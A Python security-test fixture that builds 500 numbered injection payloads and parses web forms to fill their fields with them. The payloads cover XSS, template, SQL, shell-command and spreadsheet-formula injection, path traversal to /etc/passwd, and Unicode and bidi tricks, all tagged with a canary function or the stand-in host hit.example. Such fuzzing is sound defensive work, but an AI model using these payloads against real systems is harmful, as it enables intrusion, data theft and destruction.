"""Five hundred hostile texts, each with a number by which it is known again, and how they are laid in the fields of a form (T09).

Whoever runs one calls `__hit`, asks `hit.example` for something, or leaves an element with the attribute `hit`.
"""

import random
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import islice
from typing import Any

SEED = 20261129
COUNT = 500
NUMBER = re.compile(r"hit(?:\.example)?\W{1,9}(\d{3})")
# Where the number of a payload comes to stand.
PLACE = re.compile(r"(?<![A-Za-z])N(?![A-Za-z])")

MARKUP = """<script hit>__hit(N)</script>
<img hit src=x onerror=__hit(N)>
<svg hit onload=__hit(N)>
<body hit onload=__hit(N)>
<iframe hit srcdoc="<script>parent.__hit(N)</script>">
<iframe hit src=javascript:parent.__hit(N)>
<a hit href=javascript:__hit(N)>x</a>
<a hit href="java&#9;script:__hit(N)">x</a>
" autofocus onfocus=__hit(N) hit="
' onmouseover=__hit(N) hit='
 onfocus=__hit(N) autofocus hit=
<input hit autofocus onfocus=__hit(N)>
<details hit open ontoggle=__hit(N)>
<video hit><source onerror=__hit(N)></video>
<audio hit src=x onerror=__hit(N)>
<marquee hit onstart=__hit(N)>
<object hit data=javascript:__hit(N)>
<embed hit src=//hit.example/N>
<math hit><mtext></math><img src onerror=__hit(N)>
<link hit rel=stylesheet href=//hit.example/N>
<meta hit http-equiv=refresh content=0;//hit.example/N>
<base hit href=//hit.example/N/>
<form hit action=//hit.example/N><button>
<style hit>@import"//hit.example/N"</style>
<p hit style=background:url(//hit.example/N)>
</textarea><script hit>__hit(N)</script>
</title><script hit>__hit(N)</script>
</script><script hit>__hit(N)</script>
</style><img hit src onerror=__hit(N)>
</option></select><img hit src onerror=__hit(N)>
--><script hit>__hit(N)</script>
<!--><img hit src onerror=__hit(N)>-->
]]><img hit src onerror=__hit(N)>
<noscript><p title="</noscript><img hit src onerror=__hit(N)>">
<draw-here hit data-url=//hit.example/N></draw-here>
<pass-key hit data-question=//hit.example/N>
&lt;script hit&gt;__hit(N)&lt;/script&gt;
&#60;img hit src onerror=__hit(N)&#62;
&amp;lt;img hit src onerror=__hit(N)&amp;gt;
%3Cscript hit%3E__hit(N)%3C/script%3E
\\u003cimg hit src onerror=__hit(N)\\u003e
＜script hit＞__hit(N)＜/script＞
<ScRiPt hit>__hit(N)</sCrIpT >
<img hit/src/onerror=__hit(N)//
<<script hit>__hit(N)//<</script>
<a hit id=csrfmiddlewaretoken name=forms>__hit(N)
<img hit name=cookie id=location>__hit(N)
<form hit id=document name=body><input name=__hit(N)>
javascript:__hit(N)
JaVaScRiPt:__hit(N)//
data:text/html,<script hit>__hit(N)</script>
'-__hit(N)-'
";__hit(N);//
\\";__hit(N);//
</x>`${__hit(N)}`
{"__proto__":{"hit":N}}__hit(N)"""
DRAWN = """<svg hit xmlns="http://www.w3.org/2000/svg" onload=__hit(N)>
<svg hit><script>__hit(N)</script></svg>
<svg hit><animate onbegin=__hit(N) attributeName=x dur=1s>
<svg hit><foreignObject><img src onerror=__hit(N)>
<svg hit><use href="data:image/svg+xml,<svg id=x onload=__hit(N)>#x">
<svg hit><a xlink:href="javascript:__hit(N)"><text>x
<svg hit><image href=//hit.example/N></svg>
</text><script hit>__hit(N)</script><text>
</tspan></text><image hit href="//hit.example/N"/>
<?xml-stylesheet href="//hit.example/N"?>
<!DOCTYPE x [<!ENTITY e SYSTEM "//hit.example/N">]>&e;
&e; ]]> <![CDATA[ <script hit>__hit(N)</script>"""
TEMPLATES = """{{ 7|add:N }}__hit(N)
{% debug %}__hit(N)
{% include "/etc/passwd" %}__hit(N)
{{ request.session.waits }}__hit(N)
{{constructor.constructor('__hit(N)')()}}
${7*7}${__hit(N)}
<%= __hit(N) %>
#{__hit(N)}
%(name)s %s %n __hit(N)
{0.__class__.__init__} __hit(N)
' OR 1=1 -- __hit(N)
'; DROP TABLE cards_card; -- __hit(N)
$(touch /tmp/hit)`id` __hit(N)
| id; __hit(N) &"""
FORMULAS = """=HYPERLINK("//hit.example/N","x")
=cmd|'/c calc'!A1 __hit(N)
+__hit(N)
-2+3+cmd|' /C calc'!A0 __hit(N)
@SUM(1+1)*__hit(N)
=IMPORTXML("//hit.example/N","//a")
=1+1;"__hit(N)
"=1+1","__hit(N)"
＝1+__hit(N)"""
PATHS = """../../../../etc/passwd __hit(N)
..\\..\\..\\windows\\win.ini __hit(N)
%2e%2e%2f%2e%2e%2fetc%2fpasswd __hit(N)
file:///etc/passwd#__hit(N)
\\\\hit.example\\N
//hit.example/N
https://hit.example/N
/dev/stdin __hit(N)
x.pdf"; filename="__hit(N).html
CON.__hit(N)"""
SIGNS = """\u2028__hit(N)\u2029
\ufeff\u200b__hit(N)\u200d
İﬃǆ ß__hit(N)
a\u0301\u0301\u0301\u0301__hit(N)\u0336
\ue000\uffff__hit(N)
👩‍👧‍👦🏳️‍🌈__hit(N)
𝐍𝐨𝐨𝐫 ＿＿hit(N)
ʼ“”‘’«»__hit(N)
\u0085\u00a0\u3000__hit(N)
⏎Set-Cookie: hit=N
⏎⏎<script hit>__hit(N)</script>
\t\x0b\x1b[31m__hit(N)"""
TURNED = """\u202e)N(tih__ gnp.__hit(N)
\u202dNoor\u202e __hit(N)
\u2066\u2067\u2068__hit(N)
\u2069\u2069\u2069\u202c__hit(N)
\u200f\u200e\u061c__hit(N)
محمد <img hit src onerror=__hit(N)> نور
\u202e<script hit>__hit(N)</script>\u202c"""
PAPER = """#read("/etc/passwd") __hit(N)
#panic("__hit(N)")
#import "/etc/passwd": * // __hit(N)
#link("https://hit.example/N")[x]
#image("/etc/passwd") __hit(N)
]#panic("__hit(N)")[
")#panic("__hit(N)")
$ #eval("panic()") $ __hit(N)
#sys.inputs.data __hit(N)
@x <x> *a* _b_ `c` = __hit(N)
\\u{202e}\\#set page(width: 1pt) __hit(N)
#while true {} __hit(N)
/* __hit(N)
// __hit(N)"""
FAMILIES = {
    "markup": MARKUP, "svg": DRAWN, "template": TEMPLATES, "formula": FORMULAS,
    "path": PATHS, "unicode": SIGNS, "turned": TURNED, "typst": PAPER,
}  # fmt: skip
BEFORE = ("", "", "", '">', "'>", "Noor ", "</p>", "]]>", "\\")


def payloads(count: int = COUNT) -> list[str]:
    """Every one of the families first, then again behind other beginnings; always the same."""
    chance = random.Random(SEED)
    every = [each for family in FAMILIES.values() for each in family.split("\n") if each]
    made = list(every)
    while len(made) < COUNT:
        made.append(chance.choice(BEFORE[3:]) + chance.choice(every))
    chance.shuffle(made)
    return [PLACE.sub(str(number), text).replace("⏎", "\r\n") for number, text in enumerate(made[:count], start=100)]


class Supply:
    """Payloads in turn: as many as fit in a field, and the next field gets the next."""

    def __init__(self, given: list[str]) -> None:
        self.given, self.at, self.told = given, 0, dict[str, set[str]]()

    def text(self, field_name: str, longest: int) -> str:
        """So many as fit, each field those that it did not get yet: with rounds enough it gets all."""
        got = self.told.setdefault(field_name, set())
        turn = [each for each in self.given if each not in got] or self.given
        shift = self.at % len(turn)
        taken: list[str] = []
        for each in islice(turn[shift:] + turn[:shift], 80):
            if len(" ".join([*taken, each])) <= longest:
                taken.append(each)
            elif taken:
                break
        self.at += 7
        got.update(taken)
        return " ".join(taken)


@dataclass
class Found:
    """A form as it stands on a page."""

    action: str = ""
    is_file: bool = False
    texts: dict[str, int] = field(default_factory=dict)
    files: list[str] = field(default_factory=list)
    sent: dict[str, Any] = field(default_factory=dict)
    buttons: list[tuple[str, str]] = field(default_factory=list)


class Forms(HTMLParser):
    """Every form of a page that sends something, with its fields as they would be sent."""

    TEXTS = frozenset({"text", "search", "email", "tel", "url", "password"})

    def __init__(self, page: str, here: str) -> None:
        super().__init__()
        self.here, self.forms, self.select = here, list[Found](), ""
        self.now: Found | None = None
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag == "form":
            self.now = Found(action=given.get("action") or self.here) if given.get("method", "").lower() == "post" else None
            if self.now is not None:
                self.forms.append(self.now)
        elif self.now is not None:
            self.field(tag, given)

    def field(self, tag: str, given: dict[str, str]) -> None:
        form, name, kind = self.now, given.get("name", ""), given.get("type", "text").lower()
        assert form is not None
        if tag == "select":
            self.select = name
        elif tag == "option" and self.select:
            if "selected" in given or not form.sent.get(self.select):
                form.sent[self.select] = given.get("value", "")
        elif tag == "button" and name:
            form.buttons.append((name, given.get("value", "")))
        elif not name:
            return
        elif tag == "textarea" or (tag == "input" and kind in self.TEXTS):
            form.texts[name] = min(int(given.get("maxlength") or 4000), 3900)
        elif tag == "input" and kind == "file":
            form.files.append(name)
        elif tag == "input" and kind in ("radio", "checkbox"):
            if "checked" in given or (kind == "radio" and name not in form.sent):
                form.sent[name] = given.get("value", "on")
        elif tag == "input":
            form.sent[name] = given.get("value", "")

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self.now = None
        elif tag == "select":
            self.select = ""
